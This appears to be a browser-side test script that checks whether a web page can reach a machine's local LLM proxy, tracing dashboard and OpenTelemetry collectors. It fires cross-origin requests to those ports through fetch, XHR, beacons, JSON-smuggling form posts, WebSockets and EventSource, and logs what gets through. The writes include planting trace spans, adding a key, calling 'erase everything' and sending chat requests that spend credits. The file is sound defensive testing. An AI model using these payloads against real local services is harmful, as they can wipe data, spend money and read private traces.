// Everything that a page can try against ports of this machine. Answers with what it could read, and with which status.
const [dash, proxy, otlp, grpc, done] = arguments;
const seen = [];
const note = (what, status, text) => seen.push(`${what} | ${status} | ${String(text).slice(0, 200)}`);
const settled = (start) => new Promise((end) => { try { start(end); } catch { end(); } });

const chat = JSON.stringify({ model: "gpt-4o-mini", messages: [{ role: "user", content: "spend" }] });
const span = JSON.stringify({
  resourceSpans: [{ scopeSpans: [{ spans: [{
    traceId: "0af7651916cd43dd8448eb211c80319c", spanId: "b7ad6b7169203331", name: "planted",
    startTimeUnixNano: "1790000000000000000", endTimeUnixNano: "1790000001000000000",
  }] }] }],
});
const own = JSON.stringify({ span_name: "planted", span_type: "llm", model: "gpt-4o-mini" });
const key = JSON.stringify({ type: "add_local_key", with: { name: "planted" } });
const everything = JSON.stringify({ type: "erase", with: { what: { type: "everything" } } });
const writes = [
  [`${proxy}/v1/chat/completions`, chat], [`${proxy}/anthropic/v1/messages`, chat],
  [`${dash}/v1/traces`, span], [`${dash}/`, span], [`${dash}/api/spans`, own], [`${dash}/api/rpc`, key],
  [`${dash}/api/rpc`, everything], [`${dash}/api/erase`, everything], [`${dash}/api/search/index`, ""],
  [`${otlp}/v1/traces`, span], [`${otlp}/`, span],
  [`${grpc}/opentelemetry.proto.collector.trace.v1.TraceService/Export`, span], [`${grpc}/v1/traces`, span],
];
const reads = [
  `${dash}/`, `${dash}/api/traces`, `${dash}/api/health`, `${dash}/api/events`, `${dash}/login?once=0`, `${dash}/ws`,
  `${proxy}/health`, `${proxy}/providers`, `${proxy}/v1/models`, `${otlp}/health`, `${grpc}/health`,
];
const sockets = [`${dash}/ws`, `${dash}/api/events`, `${proxy}/v1/realtime?model=gpt-realtime`, `${proxy}/v1/responses`];
const types = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""];

async function fetched(what, url, options) {
  try {
    const answer = await fetch(url, options);
    if (answer.type === "opaque" || answer.type === "opaqueredirect") return;
    // Of a stream the beginning is enough.
    const { value } = await answer.body.getReader().read();
    note(`${what} ${url}`, answer.status, new TextDecoder().decode(value));
  } catch { /* nothing was read */ }
}

function asked(what, method, url, type, body) {
  return settled((end) => {
    const asking = new XMLHttpRequest();
    asking.onprogress = () => asking.abort();
    asking.onreadystatechange = () => { if (asking.status) note(`${what} ${url}`, asking.status, asking.responseText); };
    asking.onloadend = end;
    asking.open(method, url);
    asking.withCredentials = true;
    if (type) asking.setRequestHeader("content-type", type);
    asking.send(body);
  });
}

function embedded(name, url, attribute = "src") {
  return settled((end) => {
    const element = document.createElement(name);
    element.onload = () => {
      let inside = "";
      try { inside = element.contentDocument.body.innerText; } catch { /* it is hidden */ }
      // A frame also loads the browser's own page of an error.
      if (name !== "iframe" || inside) note(`<${name}> ${url}`, "loaded", inside);
      end();
    };
    element.onerror = end;
    document.addEventListener("securitypolicyviolation", end);
    if (name === "link") element.rel = "stylesheet";
    element[attribute] = url;
    document.body.append(element);
  });
}

let frames = 0;
function posted(url, type, body) {
  return settled((end) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${(frames += 1)}`;
    document.body.append(frame);
    const form = Object.assign(document.createElement("form"), { method: "post", action: url, target: frame.name });
    form.enctype = type;
    const field = document.createElement("input");
    // As text this is `{…,"x":"="}`, which is JSON.
    field.name = body ? `${body.slice(0, -1)},"x":"` : "x";
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    document.addEventListener("securitypolicyviolation", end);
    frame.onload = end;
    form.submit();
  });
}

function opened(url) {
  return settled((end) => {
    const socket = new WebSocket(url.replace("http", "ws"), ["realtime"]);
    socket.onopen = () => { note(`WebSocket ${url}`, "open", ""); socket.send(chat); socket.close(); };
    socket.onmessage = (event) => note(`WebSocket ${url}`, "message", event.data);
    socket.onclose = end;
    // One that a page's own policy forbids never closes.
    document.addEventListener("securitypolicyviolation", end);
  });
}

function listened(url) {
  return settled((end) => {
    const events = new EventSource(url, { withCredentials: true });
    events.onopen = () => { note(`EventSource ${url}`, "open", ""); events.close(); end(); };
    events.onerror = () => { events.close(); end(); };
  });
}

async function all() {
  for (const [url, body] of writes) {
    for (const type of types) {
      try { navigator.sendBeacon(url, new Blob([body], { type })); } catch { /* refused before it is sent */ }
      const headers = type ? { "content-type": type } : {};
      const options = { method: "POST", body: type ? body : new Blob([body]), headers };
      await fetched(`POST ${type}`, url, { ...options, mode: "cors" });
      await fetched(`POST ${type} with cookies`, url, { ...options, mode: "cors", credentials: "include" });
      await fetched(`POST ${type} without asking`, url, { ...options, mode: "no-cors", credentials: "include" });
      await fetched(`POST ${type} to the end`, url, { ...options, mode: "no-cors", keepalive: true });
      await asked("XHR", "POST", url, type, body);
    }
    const parts = new FormData();
    parts.append("x", body);
    await fetched("POST FormData", url, { method: "POST", body: parts, mode: "no-cors" });
    for (const type of types.slice(1, 4)) await posted(url, type, body);
  }
  for (const url of [`${dash}/api/traces/1`, `${dash}/api/sessions/1`, `${dash}/api/budgets/a`, `${dash}/api/sources/proxy`]) {
    for (const method of ["DELETE", "PUT", "PATCH", "OPTIONS"]) await fetched(method, url, { method, credentials: "include" });
  }
  for (const url of reads) {
    await fetched("GET", url, { mode: "cors" });
    await fetched("GET with cookies", url, { mode: "cors", credentials: "include" });
    await fetched("GET without asking", url, { mode: "no-cors" });
    await asked("XHR", "GET", url);
    for (const name of ["img", "script", "iframe"]) await embedded(name, url);
    await embedded("link", url, "href");
    await embedded("object", url, "data");
    await listened(url);
  }
  for (const url of sockets) await opened(url);
}

all().then(() => done(seen), (error) => done([...seen, `the attack itself failed | 0 | ${error}`]));
